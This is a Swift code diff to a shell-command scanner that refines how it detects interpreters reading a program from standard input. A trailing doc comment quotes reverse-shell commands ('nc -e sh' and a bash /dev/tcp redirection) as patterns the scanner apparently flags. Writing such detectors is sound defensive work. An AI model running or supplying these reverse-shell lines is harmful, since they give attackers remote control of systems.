@@ -48,6 +48,10 @@ extension CommandScan {
     private func readsProgram(_ name: String, _ command: FoundCommand) -> Bool {
         var words = command.words.dropFirst()[...]
         while let text = words.first?.literal, text.hasPrefix("-") || text.hasPrefix("+"), text != "-" {
+            if ShellKind(name) != nil, ShellBuiltins.isLongOption(text) {
+                words = words.dropFirst(text == "-rcfile" || text == "-init-file" ? 2 : 1)
+                continue
+            }
             if text == "-s" || ShellKind(name) != nil && !text.hasPrefix("--") && text.contains("s") { return true }
             if !text.hasPrefix("--"), text.contains("c") { return false }
             if ShellKind(name) == nil, ["-m", "-e", "-p", "-n", "-ne", "-pe", "-r", "-le", "-lne"].contains(text) {
@@ -57,7 +61,7 @@ extension CommandScan {
                 text == "-o" || text == "-O" || text == "+o" || text == "-W" || text == "-X" ? 2 : 1)
         }
         guard let operand = words.first else { return true }
-        return operand.literal == "-" || operand.literal == "/dev/stdin" || operand.literal == "/proc/self/fd/0"
+        return operand.literal == "-" || operand.literal.map(ShellBuiltins.isStandardInput) ?? false
     }
 
     /// `nc -e sh`, `bash -i >& /dev/tcp/host/port 0>&1` and what is like it.
